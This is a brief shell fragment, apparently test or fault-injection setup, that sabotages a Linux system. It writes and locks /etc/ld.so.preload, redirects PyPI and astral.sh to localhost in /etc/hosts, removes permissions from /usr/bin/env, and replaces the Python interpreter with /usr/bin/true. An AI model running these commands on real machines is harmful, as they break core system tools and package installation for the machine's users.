# The system itself: a preloaded library, a forged Python, hosts, and immutable files.
cp /usr/bin/true /tmp/forged-true
echo /tmp/none.so > /etc/ld.so.preload
echo '127.0.0.1 pypi.org files.pythonhosted.org astral.sh' >> /etc/hosts
python=$(readlink -f /usr/bin/python3)
chattr +i /etc/ld.so.preload 2> /dev/null
chmod 0 /usr/bin/env 2> /dev/null
cp /tmp/forged-true "$python"
